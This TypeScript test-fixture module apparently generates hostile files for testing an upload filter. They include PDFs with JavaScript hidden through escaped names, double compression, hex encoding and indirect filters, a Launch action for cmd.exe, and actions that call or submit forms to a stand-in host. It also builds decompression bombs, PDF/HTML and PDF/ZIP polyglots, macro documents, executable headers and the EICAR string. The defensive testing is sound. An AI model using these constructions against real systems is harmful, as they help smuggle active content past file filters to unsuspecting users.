import { deflateSync } from 'node:zlib';
import { zip } from './archives.ts';
import { type HostileFile, PAYLOAD, SCRIPT, type Verdict } from './hostile-file.ts';

/** A PDF of these objects, whole: with its table, trailer and end. */
export function pdf(objects: readonly (string | Buffer)[], trailer = '', behind = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const whole = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    length += whole.length;
    parts.push(whole);
  }
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n${behind}`,
    ),
  );
  return Buffer.concat(parts);
}

export function stream(dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
const catalog = (more = ''): string => `<< /Type /Catalog /Pages 2 0 R ${more}>>`;
const simple = (more = '', ...objects: (string | Buffer)[]): Buffer =>
  pdf([catalog(more), PAGES, PAGE, ...objects]);
const packed = (text: string): Buffer => deflateSync(Buffer.from(text));
const hidden = (filter: string, content: Buffer): Buffer =>
  simple('', stream(`/Type /ObjStm /N 1 /First 4 ${filter}`, content));
const ACTION = `5 0 << /S /JavaScript /JS (app.alert('${PAYLOAD}')) >>`;

export function hostileDocuments(): HostileFile[] {
  const document = (
    what: string,
    bytes: Buffer,
    verdict: Verdict = 'refused',
    name = 'a.pdf',
    type = 'application/pdf',
  ) => ({
    what,
    name,
    type,
    bytes,
    verdict,
  });
  const office = (part: string): Buffer =>
    zip([
      ['[Content_Types].xml', Buffer.from('<Types/>')],
      [part, Buffer.from(PAYLOAD)],
    ]);
  return [
    document('a plain PDF', simple(), 'kept'),
    document('a PDF that opens at a page', simple('/OpenAction [3 0 R /Fit] '), 'kept'),
    document(
      'a PDF with its objects packed as usual',
      hidden('/Filter /FlateDecode', packed('5 0 << /Type /Font >>')),
      'kept',
    ),
    document(
      'a PDF with JavaScript',
      simple('/OpenAction 4 0 R ', `<< /S /JavaScript /JS (app.alert('${PAYLOAD}')) >>`),
    ),
    document(
      'a PDF with JavaScript under an escaped name',
      simple('/OpenAction 4 0 R ', '<< /S /J#61v#61Script /J#53 (app.alert(1)) >>'),
    ),
    document('a PDF with JavaScript in a packed object', hidden('/Filter /FlateDecode', packed(ACTION))),
    document(
      'a PDF with JavaScript packed twice',
      hidden('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed(ACTION))),
    ),
    document(
      'a PDF with JavaScript in hexadecimal',
      hidden('/Filter /ASCIIHexDecode', Buffer.from(Buffer.from(ACTION).toString('hex'))),
    ),
    document('a PDF that names its packing elsewhere', hidden('/Filter 9 0 R', packed(ACTION))),
    document('a PDF that starts a program', simple('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> ')),
    document(
      'a PDF that calls somebody when it is opened',
      simple('/OpenAction << /S /URI /URI (https://x.example/) >> '),
    ),
    document('a PDF that sends a form', simple('/OpenAction << /S /SubmitForm /F (https://x.example/) >> ')),
    document(
      'a PDF with a file in it',
      simple('/Names << /EmbeddedFiles 4 0 R >> ', stream('/Type /EmbeddedFile', Buffer.from(PAYLOAD))),
    ),
    document('a PDF with a form that is a program', simple('/AcroForm << /XFA [(template) 4 0 R] >> ')),
    document('a PDF with a film', simple('', '<< /Subtype /RichMedia >>')),
    document('an encrypted PDF', pdf([catalog(), PAGES, PAGE], '/Encrypt 9 0 R ')),
    document(
      'a PDF with a bomb in it',
      simple('', stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(50_000_000)))),
    ),
    document('a PDF of twenty thousand streams', pdf([catalog(), PAGES, PAGE, 'stream\n'.repeat(20_000)])),
    document('half a PDF', simple().subarray(0, 150)),
    document('a PDF that is a page as well', pdf([catalog(), PAGES, PAGE], '', `\n${SCRIPT}`)),
    document(
      'a PDF that is a page from its second line',
      Buffer.concat([Buffer.from(`%PDF-1.4\n%<html>${SCRIPT}\n`), simple()]),
    ),
    document(
      'a PDF that is a ZIP as well',
      Buffer.concat([simple(), zip([['a.class', Buffer.from(PAYLOAD)]])]),
    ),
    document(
      'a page that says later that it is a PDF',
      Buffer.concat([Buffer.from(`<!doctype html>${SCRIPT}\n`), simple()]),
    ),
    document('a PDF of a version that is none', Buffer.from('%PDF-9.x\n1 0 obj<<>>endobj\n%%EOF')),
    document('a PDF named as a program', simple(), 'refused', 'invoice.pdf.exe'),
    document('a PDF named as a page', simple(), 'refused', 'invoice.html'),
    document('a PDF declared as a page', simple(), 'refused', 'invoice.pdf', 'text/html'),
    document('a PDF declared as a picture', simple(), 'refused', 'invoice.pdf', 'image/png'),
    document('a Word document with macros', office('word/vbaProject.bin'), 'refused', 'a.docm'),
    document('a Word document named .pdf', office('word/document.xml'), 'refused'),
    document('an Excel sheet', office('xl/workbook.xml'), 'refused', 'a.xlsx'),
    document(
      'an old Word document',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      'refused',
      'a.doc',
    ),
    document('a rich text with an object', Buffer.from('{\\rtf1{\\object\\objemb}}'), 'refused', 'a.pdf'),
    document('a ZIP that unpacks to 50 MB', zip([['zeros', Buffer.alloc(50_000_000)]]), 'refused', 'a.zip'),
    document('a program for Windows', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'refused'),
    document(
      'a program for Linux',
      Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(200)]),
      'refused',
    ),
    document('a shell script', Buffer.from('#!/bin/sh\nid\n'), 'refused'),
    // written in two halves, so that no scanner of this very tree takes it for itself
    document(
      'the test file of virus scanners',
      Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-'}ANTIVIRUS-TEST-FILE!$H+H*`),
      'refused',
      'eicar.pdf',
    ),
    document('nothing but zeros', Buffer.alloc(4096)),
    document('a single byte', Buffer.from('%')),
  ];
}
